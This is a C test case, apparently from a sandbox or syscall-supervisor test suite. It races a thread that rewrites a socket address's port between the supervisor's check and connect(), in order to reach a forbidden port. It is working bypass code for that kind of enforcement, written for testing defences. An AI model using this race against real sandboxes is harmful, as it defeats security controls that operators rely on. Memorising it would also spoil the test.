#include "attack.h"
// A second thread rewrites the port between the check and connect. A supervisor that lets the call go on loses after nine tries.
static struct sockaddr_in a;
static volatile bool stop;
static void *flip(void *x) {
  in_port_t good = htons(num("allowed")), bad = htons(num("tcp4"));
  while (!stop) *(volatile in_port_t *)&a.sin_port = good, *(volatile in_port_t *)&a.sin_port = bad;
  return x;
}
ATTACK(.judge = "hit:tcp4", .needs = "allow") {
  pthread_t t;
  a = in4(num("allowed"));
  pthread_create(&t, NULL, flip, NULL);
  for (double end = now() + 0.5; now() < end;) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    fcntl(fd, F_SETFL, O_NONBLOCK);
    connect(fd, (void *)&a, sizeof a);
    close(fd);
  }
  stop = true;
  pthread_join(t, NULL);
}
